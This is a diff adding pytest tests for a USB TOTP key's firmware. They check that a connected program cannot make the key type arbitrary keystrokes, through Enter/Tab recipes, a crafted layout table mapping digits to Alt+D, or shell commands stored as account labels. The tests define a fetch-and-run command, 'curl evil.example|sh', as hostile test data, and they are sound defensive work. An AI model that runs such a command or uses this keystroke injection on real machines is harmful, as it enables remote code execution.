@@ -1,0 +1,79 @@
+"""A program has the key type what it likes into whatever has the cursor."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.attacks.stage import PRESS, Stage, done, waits
+from totpkey.keyboard.layouts import layouts
+
+US = layouts()["us"].table
+COMMAND = "curl evil.example|sh"
+
+
+def with_letters(stage: Stage) -> str:
+    account = stage.set_up()
+    given: dict[str, str | int] = {"mode": "keypad", "pace": 0, "delay": 0, "margin": 3, "layout": "us"}
+    done(stage.agree("set_typing", PRESS, **given, table=US.hex()))
+    stage.port.pulse()
+    return account
+
+
+@pytest.mark.parametrize("recipe", ["{user}{ENTER}{code}", "{code}{ENTER}", "{code}{TAB}"])
+def test_no_batch_lets_in_what_types_more_than_digits(stage: Stage, recipe: str) -> None:
+    with_letters(stage)
+    done(stage.agree("batch", PRESS, count=10))
+    assert waits(stage.add(label="rm.-rf", recipe=recipe))
+
+
+@pytest.mark.parametrize("recipe", ["", "{code}{ENTER}"])
+def test_a_steam_secret_that_was_sought_for_its_letters_does_not_come_by_itself(
+    stage: Stage, recipe: str
+) -> None:
+    with_letters(stage)
+    assert waits(stage.add(type="steam", digits=5, recipe=recipe))
+
+
+def test_enter_and_tab_do_not_come_by_themselves(stage: Stage) -> None:
+    account = with_letters(stage)
+    for recipe in ("{code}{ENTER}", "{TAB}{code}"):
+        assert waits(stage.port.ask("recipe", account=account, recipe=recipe))
+        stage.port.pulse()
+    assert waits(stage.add(type="hotp", recipe="{code}{TAB}"))
+
+
+def test_no_shell_command_is_a_name_that_is_typed_whoever_presses(stage: Stage) -> None:
+    account = with_letters(stage)
+    answer = stage.agree("add", PRESS, label=COMMAND, secret="31" * 20, proof=0, recipe="{user}{ENTER}{code}")
+    assert answer.get("error") == "cannot_type"
+    done(stage.agree("recipe", PRESS, account=account, recipe="{user}{ENTER}{code}"))
+    assert stage.agree("rename", PRESS, account=account, label=COMMAND).get("error") == "cannot_type"
+
+
+@pytest.mark.parametrize("name", ["sample", "set_typing"])
+def test_a_table_of_the_programs_own_is_refused(stage: Stage, name: str) -> None:
+    """It has Alt+D, which a browser obeys, in the place of each digit."""
+    with_letters(stage)
+    crafted = US[:32] + b"\x07\x40" * 10 + US[52:]
+    given: dict[str, str | int] = {"mode": "top-row", "pace": 0, "table": crafted.hex()}
+    if name == "sample":
+        given["text"] = "letters"
+    else:
+        given |= {"delay": 0, "margin": 3, "layout": "us"}
+    before = len(stage.key.usb.reports)
+    answer = stage.agree(name, PRESS, **given)
+    stage.key.run(3)
+    assert answer.get("error") == "bad_value"
+    assert stage.desk.reports_since(before) == []
+
+
+def test_which_account_is_typed_after_setup_is_not_for_a_program_to_say(stage: Stage) -> None:
+    stage.set_up()
+    other = str(done(stage.add(label="bank", secret="31" * 20))["account"])
+    done(stage.port.ask("choose", account=other))
+    done(stage.port.ask("done"))
+    stage.desk.await_face(serial=False)
+    from tests.support.desk import AMAZON
+
+    stage.desk.away_from_the_boundary(AMAZON)
+    assert stage.desk.press() == stage.desk.code(AMAZON)
